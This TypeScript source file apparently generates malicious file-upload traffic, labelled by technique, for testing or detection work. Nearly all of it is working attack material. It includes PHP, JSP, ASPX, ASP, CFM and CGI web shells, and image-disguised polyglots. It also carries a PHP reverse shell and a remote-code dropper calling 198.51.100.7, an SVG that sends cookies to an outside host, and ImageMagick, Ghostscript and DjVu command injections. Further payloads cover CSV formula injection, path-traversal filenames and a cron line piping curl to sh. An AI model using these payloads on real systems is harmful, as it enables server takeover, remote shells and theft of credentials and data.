import type { Chance } from '../chance.ts';
import { multipart } from '../visit.ts';
import type { WholeWriter } from '../whole.ts';

const php = [
  '<?php system($_GET["cmd"]); ?>',
  '<?php @eval($_POST["k"]);?>',
  '<?=`$_GET[x]`?>',
  'GIF89a;<?php passthru($_REQUEST[0]);',
  '<?php echo shell_exec(base64_decode($_COOKIE["a"]));',
  '<script language="php">assert($_POST[1]);</script>',
  '<?php $a="ass"."ert";$a($_REQUEST["p"]);?>',
  '<?php file_put_contents("b.php",file_get_contents("http://198.51.100.7/b.txt"));',
  '<?php $s=fsockopen("198.51.100.7",443);while(!feof($s))echo shell_exec(fgets($s));',
  '<?php move_uploaded_file($_FILES["f"]["tmp_name"],$_GET["n"]);',
] as const;
const others: readonly (readonly [string, string, string])[] = [
  [
    's.jsp',
    '<%@page import="java.io.*"%><%Process p=Runtime.getRuntime().exec(request.getParameter("c"));%>',
    'text/plain',
  ],
  [
    's.jspx',
    '<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0"><jsp:scriptlet>Runtime.getRuntime().exec(request.getParameter("c"));</jsp:scriptlet></jsp:root>',
    'text/xml',
  ],
  [
    's.aspx',
    '<%@ Page Language="C#"%><%System.Diagnostics.Process.Start("cmd.exe","/c "+Request["c"]);%>',
    'application/octet-stream',
  ],
  [
    's.ashx',
    '<%@ WebHandler Language="C#" Class="H"%>public class H:System.Web.IHttpHandler{public void ProcessRequest(System.Web.HttpContext c){System.Diagnostics.Process.Start(c.Request["x"]);}public bool IsReusable{get{return true;}}}',
    'text/plain',
  ],
  ['s.asp;.jpg', '<%execute(request("z"))%>', 'image/jpeg'],
  ['s.cer', '<%eval request("q")%>', 'application/x-x509-ca-cert'],
  [
    'web.config',
    '<?xml version="1.0"?><configuration><system.webServer><handlers accessPolicy="Read, Script, Write"><add name="w" path="*.config" verb="*" modules="IsapiModule" scriptProcessor="%windir%\\system32\\inetsrv\\asp.dll"/></handlers></system.webServer></configuration>',
    'text/xml',
  ],
  ['.htaccess', 'AddType application/x-httpd-php .png\nphp_value auto_prepend_file "php://input"', 'text/plain'],
  ['.user.ini', 'auto_prepend_file=avatar.gif', 'text/plain'],
  ['s.cfm', '<cfexecute name="cmd" arguments="/c #url.c#" variable="o"></cfexecute>', 'text/plain'],
  ['s.pl', '#!/usr/bin/perl\nprint "Content-type: text/html\\n\\n"; system($ENV{QUERY_STRING});', 'text/plain'],
  ['s.cgi', '#!/bin/sh\necho; eval "$QUERY_STRING"', 'application/x-sh'],
  ['s.shtml', '<!--#exec cmd="id" -->', 'text/html'],
  [
    'a.svg',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'//x.oast.example/\'+document.cookie)"/>',
    'image/svg+xml',
  ],
  ['b.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>', 'image/svg+xml'],
  [
    'c.svg',
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="file:///etc/passwd"/></svg>',
    'image/svg+xml',
  ],
  ['x.html', '<script src="https://x.oast.example/h.js"></script>', 'image/png'],
  ['x.hta', '<script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script>', 'text/html'],
  [
    'm.mvg',
    'push graphic-context\nviewbox 0 0 9 9\nfill \'url(https://x.oast.example/a.jpg"|id > /tmp/o")\'\npop graphic-context',
    'image/jpeg',
  ],
  [
    'm.msl',
    '<?xml version="1.0"?><image><read filename="caption:&lt;?php system($_GET[0]);?&gt;"/><write filename="/var/www/html/i.php"/></image>',
    'text/xml',
  ],
  ['p.eps', '%!PS\n{null restore} stopped {pop} if\n(%pipe%id) (w) file', 'application/postscript'],
  ['d.jpg', '(metadata (Copyright "\\\n" . qx{id} . \\\n" b ") )', 'image/vnd.djvu'],
  ['c.csv', "name,total\n=cmd|' /C calc'!A0,1\n", 'text/csv'],
  [
    'p.m3u8',
    '#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1.0,\nconcat:http://198.51.100.7/h.m3u8|file:///etc/passwd\n#EXT-X-ENDLIST',
    'video/mp4',
  ],
];
const names = [
  'sh.php',
  'sh.PhP',
  'sh.php5',
  'sh.phtml',
  'sh.phar',
  'sh.php.jpg',
  'sh.jpg.php',
  'sh.php%00.png',
  'sh.php%20',
  'sh.php.',
  'sh.php::$DATA',
  'sh.pht',
  '../../html/sh.php',
  '..\\..\\wwwroot\\sh.php',
  'sh.inc',
  'sh.php;.gif',
  'sh.p.phpp',
  'sh.php/',
  '....//sh.php',
  'sh.pgif',
  'avatar.php7',
  'sh.php\u202egnp',
  '%2e%2e%2fsh.php',
  '.php',
  'sh.hphp',
  'sh.module',
] as const;

/** Files that a server would run, or that run in whoever opens them. */
export function writeUploads(write: WholeWriter, chance: Chance): void {
  const post = (to: string, name: string, type: string, value: string | Buffer, field = 'file'): void => {
    const { type: kind, body } = multipart(
      [
        { name: 'title', value: chance.pick(['Invoice', 'me', 'scan 3']) },
        { name: field, value, filename: name, type },
      ],
      chance,
    );
    write.send(to, kind, body);
  };
  write.as({ class: 'upload', technique: 'php under names that slip through' });
  for (const [turn, name] of names.entries())
    for (const type of ['image/png', 'application/x-php', 'image/gif', 'text/plain'].slice(turn % 2, (turn % 2) + 3))
      post(
        chance.pick(['/upload', '/profile/avatar', '/api/files', '/wp-admin/async-upload.php']),
        name,
        type,
        chance.pick(php),
        chance.pick(['file', 'avatar', 'upload[]', 'Filedata']),
      );
  write.as({ class: 'upload', technique: 'php within pictures' });
  for (const [turn, code] of php.entries()) {
    const heads = [
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
      Buffer.from('GIF87a'),
      Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16]),
      Buffer.from('%PDF-1.4\n'),
    ];
    for (const [at, head] of heads.entries())
      post(
        '/media/new',
        `p${turn}.${['png', 'gif', 'jpg', 'pdf'][at]}${turn % 2 === 0 ? '' : '.php'}`,
        'image/png',
        Buffer.concat([head, Buffer.from(chance.word(60)), Buffer.from(code)]),
      );
  }
  write.as({ class: 'upload', technique: 'programs of other servers and viewers' });
  for (const [name, text, type] of others) {
    post('/api/upload', name, type, text);
    post('/documents', `report ${chance.below(90)}/${name}`, 'image/png', text, 'attachment');
    if (/\.(?:jspx?|aspx|ashx|svg|cgi)$/.test(name))
      write.send(`/files/${chance.word(4)}-${name}`, type, text, { method: 'PUT' });
  }
  write.as({ class: 'upload', technique: 'names that walk out of the folder' });
  for (const name of [
    '../../../../etc/cron.d/x',
    '..%2f..%2f.ssh%2fauthorized_keys',
    '/etc/ld.so.preload',
    '..\\..\\Startup\\x.bat',
    '../../.n8n/config',
    '../node_modules/a/index.js',
    '../../root/.bashrc',
    '\\\\198.51.100.7\\s\\a.dll',
  ])
    for (const field of ['file', 'doc'])
      post(
        '/import',
        name,
        'application/octet-stream',
        `* * * * * root curl 198.51.100.7/${chance.word(3)}|sh\n`,
        field,
      );
  write.as({ class: 'upload', technique: 'part heads that parsers read differently' });
  for (const head of [
    'filename="a.jpg"; filename="s.php"',
    "filename*=UTF-8''s%2ephp",
    'filename=s.php',
    'filename="a.png;s.php"',
    "filename='s.php'",
    'filename="s.p\nhp"',
    'filename ="s.php"',
    'FileName="s.php"',
    'filename="s.php\\"',
    'filename==="s.php"',
    'name="x"; filename="s.php"',
    'filename="=?utf-8?b?cy5waHA=?="',
  ])
    write.send(
      '/upload.php',
      'multipart/form-data; boundary=zz',
      `--zz\r\nContent-Disposition: form-data; name="f"; ${head}\r\nContent-Type: image/jpeg\r\n\r\n${chance.pick(php)}\r\n--zz--\r\n`,
    );
}
